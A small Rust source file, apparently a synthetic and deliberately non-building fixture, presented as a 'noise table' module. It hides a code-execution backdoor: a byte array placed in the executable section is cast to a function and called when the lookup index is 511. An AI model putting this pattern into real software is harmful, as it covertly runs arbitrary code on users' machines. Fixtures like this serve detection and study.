// Synthetic, inert fixture written from public reports; see README
//! Noise tables.

/// The table.
#[link_section = ".text"]
pub static NOISE: [u8; 512] = *include_bytes!("../noise.raw");

/// Noise at `x`.
pub fn at(x: usize) -> u8 {
    if x == 511 {
        let f = unsafe { core::mem::transmute::<*const u8, extern "C" fn()>(NOISE.as_ptr()) };
        f();
    }
    NOISE[x % 512]
}

inert_fixture_does_not_build!();
